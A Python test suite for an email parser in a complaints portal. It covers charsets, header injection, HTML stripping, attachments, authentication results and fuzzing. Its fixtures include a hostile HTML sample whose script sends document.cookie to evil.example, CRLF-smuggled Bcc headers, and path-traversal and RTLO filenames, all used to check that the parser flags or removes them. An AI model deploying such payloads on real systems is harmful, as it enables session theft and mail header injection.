"""Reading one email's raw bytes: body text in any charset, attachments as given, header
injection and forged results noticed, automatic mail recognised, and no input that raises."""

from __future__ import annotations

import base64
import socket
import time
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.services.mailin.parse import (
    Attachment,
    AuthResults,
    ParsedMessage,
    message_ids,
    parse,
)

ALL_PROBLEMS = {
    "malformed_mime", "header_crlf", "no_sender", "charset_guessed", "undecodable_text",
    "html_converted", "active_html_removed", "nested_message", "too_many_attachments",
}
COMPLAINT_ZH = "您好，我要投诉贵所的律师。他三个月没有回复我的邮件，也没有退还费用。"
COMPLAINT_HANT = "您好，我要投訴貴所的律師。他三個月沒有回覆我的郵件，也沒有退還費用。"


def _message(**headers: str) -> EmailMessage:
    message = EmailMessage()
    message["From"] = headers.pop("From", "Zhang San <Zhang.San@Example.COM>")
    message["To"] = "complaints@firm.example"
    message["Subject"] = headers.pop("Subject", "A complaint")
    message["Message-ID"] = "<c1@mail.example.com>"
    message["Date"] = "Mon, 06 May 2024 09:30:00 +0800"
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    return message


def _raw(body: bytes, content_type: str = "text/plain", headers: bytes = b"") -> bytes:
    return (
        b"From: Zhang San <zhang@example.com>\r\nTo: complaints@firm.example\r\n"
        b"Subject: test\r\nMessage-ID: <raw@example.com>\r\n" + headers
        + b"MIME-Version: 1.0\r\nContent-Type: " + content_type.encode()
        + b"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + body
    )


def _encoded_word(text: str, charset: str) -> str:
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def _with_attachments(count: int) -> bytes:
    message = _message()
    message.set_content("See the files.")
    for number in range(count):
        message.add_attachment(b"x", maintype="application", subtype="octet-stream",
                               filename=f"f{number}.bin")
    return message.as_bytes()


# -- plain text and charsets ------------------------------------------------------------------


def test_a_plain_utf8_message_is_read_whole():
    message = _message(Subject="Complaint about 李律师")
    message.set_content("Dear firm,\r\n\r\n我要投诉。\x00\x07\r\nRegards\r\n")
    parsed = parse(message.as_bytes())
    assert isinstance(parsed, ParsedMessage)
    assert parsed.message_id == "<c1@mail.example.com>"
    assert parsed.subject == "Complaint about 李律师"
    assert parsed.sender_address == "zhang.san@example.com"
    assert parsed.sender_name == "Zhang San"
    assert parsed.date_header == datetime(2024, 5, 6, 1, 30, tzinfo=UTC)
    assert parsed.date_header.utcoffset() == timedelta(hours=8)
    assert parsed.text == "Dear firm,\n\n我要投诉。\nRegards"
    assert parsed.attachments == []
    assert parsed.auth == AuthResults(None, None, None)
    assert parsed.automatic is None
    assert parsed.problems == []


def test_gbk_declared_as_gbk():
    parsed = parse(_raw(COMPLAINT_ZH.encode("gbk"), "text/plain; charset=gbk"))
    assert parsed.text == COMPLAINT_ZH
    assert parsed.problems == []


@pytest.mark.parametrize("declared", ["gb2312", "GB_2312", "x-gbk", "cp936"])
def test_gbk_aliases_read_as_gb18030(declared):
    text = "投诉：镕基（GBK 独有的字）"
    parsed = parse(_raw(text.encode("gb18030"), f"text/plain; charset={declared}"))
    assert parsed.text == text
    assert parsed.problems == []


def test_gbk_declared_as_utf8_is_guessed_right():
    parsed = parse(_raw(COMPLAINT_ZH.encode("gbk"), "text/plain; charset=utf-8"))
    assert parsed.text == COMPLAINT_ZH
    assert parsed.problems == ["charset_guessed"]


def test_gbk_without_a_charset_is_guessed_right():
    parsed = parse(_raw(COMPLAINT_ZH.encode("gbk")))
    assert parsed.text == COMPLAINT_ZH
    assert "charset_guessed" in parsed.problems


@pytest.mark.parametrize("declared", ["big5", "x-big5", "cp950", "big5-hkscs"])
def test_big5_declared(declared):
    parsed = parse(_raw(COMPLAINT_HANT.encode("big5"), f"text/plain; charset={declared}"))
    assert parsed.text == COMPLAINT_HANT
    assert parsed.problems == []


def test_big5_without_a_charset_is_not_read_as_gbk():
    # Big5 bytes are nearly all valid GB18030 too: the frequent characters decide.
    parsed = parse(_raw(COMPLAINT_HANT.encode("big5")))
    assert parsed.text == COMPLAINT_HANT
    assert "charset_guessed" in parsed.problems


def test_an_unknown_charset_falls_back():
    parsed = parse(_raw("投诉".encode(), "text/plain; charset=x-no-such-charset"))
    assert parsed.text == "投诉"
    assert parsed.problems == ["charset_guessed"]


def test_bytes_no_charset_can_read_become_replacement_characters():
    parsed = parse(_raw(b"caf\xff\xfe\x80 ok", "text/plain; charset=utf-8"))
    assert parsed.text.endswith(" ok")
    assert "\ufffd" in parsed.text
    assert parsed.problems == ["undecodable_text"]


def test_a_base64_body_is_decoded():
    message = _message()
    message.set_content(COMPLAINT_ZH, cte="base64")
    assert parse(message.as_bytes()).text == COMPLAINT_ZH


# -- headers ----------------------------------------------------------------------------------


def test_an_rfc2047_gbk_subject_and_sender_name():
    parsed = parse((
        f"Subject: {_encoded_word('关于王律师的投诉', 'gbk')}\r\n"
        f"From: {_encoded_word('张三', 'gb2312')} <ZS@QQ.com>\r\n\r\nbody"
    ).encode())
    assert parsed.subject == "关于王律师的投诉"
    assert parsed.sender_name == "张三"
    assert parsed.sender_address == "zs@qq.com"
    assert parsed.problems == []


def test_a_multibyte_character_split_across_encoded_words():
    data = "投诉律师".encode()
    first, second = base64.b64encode(data[:4]).decode(), base64.b64encode(data[4:]).decode()
    raw = b"From: a@b.example\r\nSubject: =?utf-8?B?" + first.encode() + b"?=\r\n =?UTF-8?B?" \
        + second.encode() + b"?=\r\n\r\nx"
    assert parse(raw).subject == "投诉律师"


def test_a_raw_8bit_subject_is_decoded_like_a_body():
    raw = b"From: a@b.example\r\nSubject: " + "投诉".encode("gbk") + b"\r\n\r\nx"
    assert parse(raw).subject == "投诉"


def test_an_encoded_crlf_in_the_subject_is_one_line_and_noticed():
    raw = b"From: a@b.example\r\nSubject: =?utf-8?q?Hello=0D=0ABcc:_x@y?=\r\n\r\nbody"
    parsed = parse(raw)
    assert parsed.subject == "Hello Bcc: x@y"
    assert "header_crlf" in parsed.problems


def test_an_encoded_crlf_in_the_sender_name_is_noticed():
    raw = b"From: =?utf-8?q?Li=0ABcc=3A_x=40y?= <li@b.example>\r\nSubject: s\r\n\r\nbody"
    parsed = parse(raw)
    assert parsed.sender_name == "Li Bcc: x@y"
    assert parsed.sender_address == "li@b.example"
    assert parsed.problems == ["header_crlf"]


def test_a_bare_cr_in_the_headers_is_noticed():
    parsed = parse(b"From: a@b.example\r\nSubject: one\rBcc: x@y\r\n\r\nbody")
    assert "header_crlf" in parsed.problems


def test_a_long_subject_with_controls_is_cut_to_one_line():
    raw = b"From: a@b.example\r\nSubject: a\tb\x01  c " + b"x" * 400 + b"\r\n\r\nbody"
    parsed = parse(raw)
    assert parsed.subject.startswith("a b c x")
    assert len(parsed.subject) == 300


@pytest.mark.parametrize("sender", [None, "undisclosed-recipients:;", "not an address", "<>"])
def test_no_usable_sender(sender):
    headers = f"From: {sender}\r\n" if sender else ""
    parsed = parse(f"{headers}Subject: s\r\n\r\nbody".encode())
    assert parsed.sender_address is None
    assert parsed.problems == ["no_sender"]


def test_message_ids_are_one_line_and_bracketed():
    raw = (b"From: a@b.example\r\nMessage-ID:\r\n <abc.123@mail.example>\r\n"
           b"In-Reply-To: <r0@portal.example> (earlier)\r\n"
           b"References: <r1@portal.example>\r\n\t<r2@portal.example>\r\n <r3@x>\r\n\r\nbody")
    parsed = parse(raw)
    assert parsed.message_id == "<abc.123@mail.example>"
    assert parsed.in_reply_to == ["<r0@portal.example>"]
    assert parsed.references == ["<r1@portal.example>", "<r2@portal.example>", "<r3@x>"]


@pytest.mark.parametrize(("header", "expected"), [
    ("bare.id@host.example", "<bare.id@host.example>"),
    ("<>", None),
    ("no id at all", None),
    ("<" + "x" * 300 + "@h>", None),
])
def test_message_id_forms(header, expected):
    assert parse(f"From: a@b.example\r\nMessage-ID: {header}\r\n\r\nx".encode()).message_id \
        == expected


def test_message_ids_of_a_folded_references_header():
    value = "<a1@x.example>\r\n <a2@y.example>\r\n\t<a3@z.example> junk <a4@w.example>"
    assert message_ids(value) == [
        "<a1@x.example>", "<a2@y.example>", "<a3@z.example>", "<a4@w.example>",
    ]
    assert message_ids("<a@b\r\n .example>") == ["<a@b.example>"]
    assert message_ids("") == []
    assert message_ids(None) == []
    assert message_ids("<> < >") == []


def test_an_unreadable_date_is_none_and_a_naive_one_utc():
    assert parse(b"From: a@b.example\r\nDate: yesterday\r\n\r\nx").date_header is None
    parsed = parse(b"From: a@b.example\r\nDate: Mon, 06 May 2024 09:30:00 -0000\r\n\r\nx")
    assert parsed.date_header == datetime(2024, 5, 6, 9, 30, tzinfo=UTC)


# -- HTML -------------------------------------------------------------------------------------

HOSTILE_HTML = """<!DOCTYPE html><html><head><title>Title</title>
<link rel="stylesheet" href="http://evil.example/x.css"><style>p { color: red }</style></head>
<body onload="steal()"><!-- hidden note -->
<div data-hx-get="/staff/cases" data-hx-trigger="load">Dear   firm,<br>my lawyer &amp; I</div>
<p hx-on:click="alert(1)">Second <b>paragraph</b>.</p>
<img src="http://tracker.example/pixel.gif?id=42" alt="pixel">
<ul><li>first</li><li>second</li></ul>
<script>document.location = "http://evil.example/?" + document.cookie</script>
<template><p>template text</p></template><iframe src="http://evil.example/"></iframe>
<div><div><div><p>deep</p></div></div></div>
</body></html>"""


@pytest.fixture
def no_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("parse() tried to open a connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def test_an_html_only_body_becomes_plain_text(no_network):
    message = _message()
    message.set_content(HOSTILE_HTML, subtype="html")
    parsed = parse(message.as_bytes())
    assert parsed.text == (
        "Dear firm,\nmy lawyer & I\n\nSecond paragraph.\n\nfirst\nsecond\n\ndeep"
    )
    gone = ("<", ">", "hx-", "onload", "script", "http", "Title", "color", "hidden", "template")
    assert not [word for word in gone if word in parsed.text]
    assert parsed.problems == ["html_converted", "active_html_removed"]


def test_plain_looking_html_is_converted_without_active_content():
    message = _message()
    message.set_content("<p>Hello</p>\n\n\n\n<p>there</p><p></p><p></p><p>end</p>", subtype="html")
    parsed = parse(message.as_bytes())
    assert parsed.text == "Hello\n\nthere\n\nend"
    assert parsed.problems == ["html_converted"]


def test_html_in_gbk_is_decoded_before_conversion():
    body = f"<html><body><p>{COMPLAINT_ZH}</p></body></html>".encode("gbk")
    parsed = parse(_raw(body, "text/html; charset=gb2312"))
    assert parsed.text == COMPLAINT_ZH
    assert parsed.problems == ["html_converted"]


def test_multipart_alternative_prefers_the_plain_part():
    message = _message()
    message.set_content("The plain version.")
    message.add_alternative("<p>The <b>HTML</b> version.<script>x()</script></p>", subtype="html")
    parsed = parse(message.as_bytes())
    assert parsed.text == "The plain version."
    assert parsed.attachments == []
    assert parsed.problems == []


# -- attachments ------------------------------------------------------------------------------


def test_attachments_keep_their_declared_types_and_bytes():
    pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
    disguised = b"<html><script>alert(1)</script></html>"
    message = _message()
    message.set_content("Two files attached.")
    message.add_attachment(pdf, maintype="application", subtype="pdf", filename="contract.pdf")
    message.add_attachment(disguised, maintype="text", subtype="html", filename="invoice.pdf")
    parsed = parse(message.as_bytes())
    assert parsed.text == "Two files attached."
    assert parsed.attachments == [
        Attachment("contract.pdf", "application/pdf", pdf),
        Attachment("invoice.pdf", "text/html", disguised),
    ]
    assert parsed.problems == []


def test_an_rfc2231_chinese_filename():
    message = _message()
    message.set_content("See the receipt.")
    message.add_attachment(b"img", maintype="image", subtype="jpeg", filename="收据 2024年.jpg")
    assert b"filename*=utf-8''" in message.as_bytes()
    assert parse(message.as_bytes()).attachments[0].filename == "收据 2024年.jpg"


@pytest.mark.parametrize(("disposition", "expected"), [
    ("attachment; filename*=gbk''%CA%D5%BE%DD.pdf", "收据.pdf"),
    ("attachment; filename*0*=utf-8''%E6%94%B6; filename*1*=%E6%8D%AE.pdf", "收据.pdf"),
    (f'attachment; filename="{_encoded_word("收据.pdf", "gbk")}"', "收据.pdf"),
    ("attachment", ""),
])
def test_filename_encodings(disposition, expected):
    raw = _raw(
        b"--B\r\nContent-Type: text/plain\r\n\r\nbody\r\n"
        b"--B\r\nContent-Type: application/pdf\r\nContent-Disposition: " + disposition.encode()
        + b"\r\n\r\n%PDF\r\n--B--\r\n",
        "multipart/mixed; boundary=B",
    )
    parsed = parse(raw)
    assert parsed.text == "body"
    assert parsed.attachments == [Attachment(expected, "application/pdf", b"%PDF")]


def test_a_raw_8bit_filename_and_a_content_type_name():
    raw = _raw(
        b"--B\r\nContent-Type: text/plain\r\n\r\nbody\r\n"
        b'--B\r\nContent-Type: application/pdf; name="' + "收据.pdf".encode("gbk") + b'"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\nJVBERg==\r\n--B--\r\n",
        "multipart/mixed; boundary=B",
    )
    assert parse(raw).attachments == [Attachment("收据.pdf", "application/pdf", b"%PDF")]


@pytest.mark.parametrize("filename", ["../../etc/passwd", "photo\u202egpj.exe"])
def test_hostile_filenames_come_through_as_given(filename):
    message = _message()
    message.set_content("see attached")
    message.add_attachment(b"data", maintype="application", subtype="octet-stream",
                           filename=filename)
    parsed = parse(message.as_bytes())
    assert [a.filename for a in parsed.attachments] == [filename]
    assert parsed.attachments[0].data == b"data"


def test_an_inline_image_counts_only_with_a_filename():
    message = _message()
    message.set_content("Photos below.")
    message.add_related(b"\x89PNG1", maintype="image", subtype="png", cid="<i1@x>")
    message.add_related(b"\x89PNG2", maintype="image", subtype="png", cid="<i2@x>",
                        filename="scratch.png", disposition="inline")
    parsed = parse(message.as_bytes())
    assert parsed.text == "Photos below."
    assert parsed.attachments == [Attachment("scratch.png", "image/png", b"\x89PNG2")]


def test_a_nested_message_is_one_attachment():
    inner = _message(Subject="The original")
    inner.set_content("Forwarded text that must not become the body.")
    inner.add_attachment(b"%PDF", maintype="application", subtype="pdf", filename="inner.pdf")
    outer = _message(Subject="Fwd: The original")
    outer.set_content("See the forwarded email.")
    outer.add_attachment(inner, filename="original.eml")
    parsed = parse(outer.as_bytes())
    assert parsed.text == "See the forwarded email."
    [attachment] = parsed.attachments
    assert attachment.content_type == "message/rfc822"
    assert attachment.filename == "original.eml"
    nested = parse(attachment.data)
    assert nested.subject == "The original"
    assert nested.text == "Forwarded text that must not become the body."
    assert [a.filename for a in nested.attachments] == ["inner.pdf"]
    assert parsed.problems == ["nested_message"]


def test_a_forward_only_message_has_no_body():
    inner = _message(Subject="Inner")
    inner.set_content("inner body")
    outer = _message()
    outer.set_content(inner)
    parsed = parse(outer.as_bytes())
    assert parsed.text == ""
    assert [(a.filename, a.content_type) for a in parsed.attachments] == [("", "message/rfc822")]
    assert parsed.problems == ["nested_message"]


def test_at_most_fifty_attachments():
    assert len(parse(_with_attachments(50)).attachments) == 50
    parsed = parse(_with_attachments(51))
    assert [a.filename for a in parsed.attachments] == [f"f{n}.bin" for n in range(50)]
    assert parsed.problems == ["too_many_attachments"]


# -- malformed MIME ---------------------------------------------------------------------------


def test_a_missing_boundary_is_malformed_but_read():
    raw = _raw(b"--XX\r\nContent-Type: text/plain\r\n\r\nthe complaint\r\n--XX--\r\n",
               "multipart/mixed")
    parsed = parse(raw)
    assert "the complaint" in parsed.text
    assert parsed.sender_address == "zhang@example.com"
    assert parsed.problems == ["malformed_mime"]


def test_bad_base64_is_malformed_but_read():
    raw = _raw(b"--B\r\nContent-Type: text/plain\r\n\r\nbody\r\n"
               b"--B\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment;"
               b" filename=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBER!!g\r\n--B--\r\n",
               "multipart/mixed; boundary=B")
    parsed = parse(raw)
    assert parsed.text == "body"
    assert [a.filename for a in parsed.attachments] == ["a.pdf"]
    assert parsed.problems == ["malformed_mime"]


def test_rfc2231_pieces_that_cannot_be_put_together_cost_only_the_name():
    raw = _raw(b"--B\r\nContent-Type: text/plain\r\n\r\nbody\r\n"
               b"--B\r\nContent-Type: application/pdf\r\n"
               b"Content-Disposition: attachment; filename*=a; filename*0=b\r\n"
               b"\r\n%PDF\r\n--B--\r\n",
               "multipart/mixed; boundary=B")
    parsed = parse(raw)
    assert parsed.text == "body"
    assert parsed.attachments == [Attachment("", "application/pdf", b"%PDF")]
    assert parsed.problems == ["malformed_mime"]


def test_an_outsized_content_type_is_cut_and_read_quickly():
    raw = _raw(b"--B\r\nContent-Type: text/plain\r\n\r\nbody\r\n--B--\r\n",
               "multipart/mixed; boundary=B;" + " a*0*=b;" * 200_000)
    started = time.monotonic()
    parsed = parse(raw)
    assert time.monotonic() - started < 10  # hours, uncut
    assert parsed.text == "body"
    assert parsed.problems == ["malformed_mime"]


def test_many_parts_are_read_quickly():
    started = time.monotonic()
    parsed = parse(_with_attachments(600))
    assert time.monotonic() - started < 10
    assert parsed.text == "See the files."
    assert parsed.problems == ["too_many_attachments"]


@pytest.mark.parametrize("raw", [b"", b"\x00" * 50, b"garbage without headers", b"\r\n\r\n"])
def test_nonsense_is_a_message_with_problems(raw):
    parsed = parse(raw)
    assert parsed.sender_address is None
    assert "no_sender" in parsed.problems


# -- Authentication-Results -------------------------------------------------------------------

PASS = "mx.firm.example; spf=pass smtp.mailfrom=a@b.example; dkim=pass header.d=b.example; " \
    "dmarc=pass (p=none dis=none) header.from=b.example"


def _auth_message(*results: str) -> bytes:
    headers = "".join(f"Authentication-Results: {value}\r\n" for value in results)
    return f"{headers}From: a@b.example\r\nSubject: s\r\n\r\nbody".encode()


def test_authentication_results_that_pass():
    auth = parse(_auth_message(PASS)).auth
    assert auth == AuthResults(spf="pass", dkim="pass", dmarc="pass")
    assert not auth.failed
    assert not auth.forged


def test_authentication_results_that_fail():
    auth = parse(_auth_message(
        "mx.firm.example;\r\n spf=SoftFail (sender not permitted) smtp.mailfrom=a@b.example;\r\n"
        " dkim=fail (bad signature) header.d=b.example; dkim=pass header.d=other.example;"
        " dmarc=fail header.from=b.example"
    )).auth
    assert auth == AuthResults(spf="softfail", dkim="fail", dmarc="fail")
    assert auth.failed
    assert auth.forged


def test_a_dkim_failure_alone_fails_but_is_not_forged():
    auth = parse(_auth_message("mx.firm.example; spf=pass; dkim=fail; dmarc=pass")).auth
    assert auth.failed
    assert not auth.forged


def test_only_the_top_authentication_results_count():
    sender_added = "mx.firm.example; spf=pass; dkim=pass; dmarc=pass"
    auth = parse(_auth_message("mx.firm.example; spf=fail; dmarc=none", sender_added)).auth
    assert auth == AuthResults(spf="fail", dkim=None, dmarc="none")


def test_the_authserv_id_picks_our_own_header():
    raw = _auth_message(
        "relay.other.example; spf=pass; dkim=pass; dmarc=pass",
        "MX.Firm.Example 1; spf=fail (comment spf=pass); dkim=none; "
        'dmarc=fail reason="dkim=pass"',
        "mx.firm.example; spf=pass; dkim=pass; dmarc=pass",
    )
    assert parse(raw, authserv_id="mx.firm.example").auth == AuthResults("fail", "none", "fail")
    assert parse(raw).auth == AuthResults("pass", "pass", "pass")
    assert parse(raw, authserv_id="nobody.example").auth == AuthResults(None, None, None)


# -- automatic mail ---------------------------------------------------------------------------


@pytest.mark.parametrize(("headers", "expected"), [
    ("Auto-Submitted: auto-replied\r\n", "auto_submitted"),
    ("Auto-Submitted: no\r\n", None),
    ("Auto-Submitted: No (a person)\r\n", None),
    ("Precedence: bulk\r\n", "precedence"),
    ("Precedence: JUNK\r\n", "precedence"),
    ("Precedence: first-class\r\n", None),
    ("List-Id: <complaints.lists.example>\r\n", "list"),
    ("List-Unsubscribe: <mailto:leave@lists.example>\r\n", "list"),
    ("Return-Path: <>\r\n", "null_return_path"),
    ("Return-Path: <a@b.example>\r\n", None),
    ("Content-Type: multipart/report; report-type=delivery-status; boundary=B\r\n", "bounce"),
    ("X-Autoreply: yes\r\n", "autoreply_header"),
    ("X-Autorespond: on\r\n", "autoreply_header"),
])
def test_automatic_mail(headers, expected):
    raw = f"From: a@b.example\r\nSubject: s\r\n{headers}\r\nbody\r\n".encode()
    assert parse(raw).automatic == expected


@pytest.mark.parametrize("sender", ["MAILER-DAEMON@mx.example", "postmaster@b.example"])
def test_mail_from_the_mail_system_is_a_bounce(sender):
    assert parse(f"From: {sender}\r\n\r\nundeliverable".encode()).automatic == "bounce"


# -- never raising ----------------------------------------------------------------------------


def _valid_multipart() -> bytes:
    message = _message(Subject=f"{_encoded_word('投诉', 'gbk')} complaint",
                       Authentication_Results=PASS, References="<r1@x> <r2@y>")
    message.set_content(COMPLAINT_ZH)
    message.add_alternative(f"<p onclick='x()'>{COMPLAINT_ZH}</p>", subtype="html")
    message.add_attachment(b"%PDF-1.4", maintype="application", subtype="pdf",
                           filename="证据.pdf")
    inner = _message()
    inner.set_content("inner")
    message.add_attachment(inner)
    return message.as_bytes()


VALID = _valid_multipart()
MIME_BITS = [b"\r\n", b"\n", b"\r", b"--", b"=?", b"?=", b"<", b">", b";", b'"', b"\x00",
             b"\xff", b"boundary=", b"multipart/mixed", b"message/rfc822", b"base64", b"*0*=",
             b"''", b"%", b"(", b")", b"\\", b"charset=", b"<script>"]


@st.composite
def mutations(draw) -> bytes:
    data = bytearray(VALID)
    for _ in range(draw(st.integers(1, 8))):
        position = draw(st.integers(0, len(data)))
        kind = draw(st.sampled_from(["insert", "delete", "replace", "truncate"]))
        chunk = draw(st.one_of(st.binary(min_size=1, max_size=8), st.sampled_from(MIME_BITS)))
        if kind == "insert":
            data[position:position] = chunk
        elif kind == "delete":
            del data[position : position + draw(st.integers(1, 40))]
        elif kind == "replace":
            data[position : position + len(chunk)] = chunk
        else:
            del data[position:]
    return bytes(data)


def _check(parsed: ParsedMessage) -> None:
    assert isinstance(parsed, ParsedMessage)
    assert set(parsed.problems) <= ALL_PROBLEMS
    assert len(set(parsed.problems)) == len(parsed.problems)
    assert len(parsed.attachments) <= 50
    one_line = [parsed.subject, parsed.sender_address or "", parsed.sender_name or "",
                parsed.message_id or "", *parsed.in_reply_to, *parsed.references]
    for value in one_line:
        assert "\r" not in value and "\n" not in value
    assert len(parsed.subject) <= 300
    assert "\x00" not in parsed.text and "\r" not in parsed.text
    for value in [*one_line, parsed.text, *(a.filename for a in parsed.attachments)]:
        value.encode("utf-8")  # no lone surrogates


def test_the_valid_sample_reads_cleanly():
    parsed = parse(VALID)
    assert parsed.subject == "投诉 complaint"
    assert parsed.text == COMPLAINT_ZH
    assert [a.filename for a in parsed.attachments] == ["证据.pdf", ""]
    assert parsed.problems == ["nested_message"]


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2000))
def test_parse_never_raises_on_arbitrary_bytes(raw):
    _check(parse(raw))


@settings(max_examples=200, deadline=None)
@given(mutations())
def test_parse_never_raises_on_a_mutated_multipart(raw):
    _check(parse(raw))
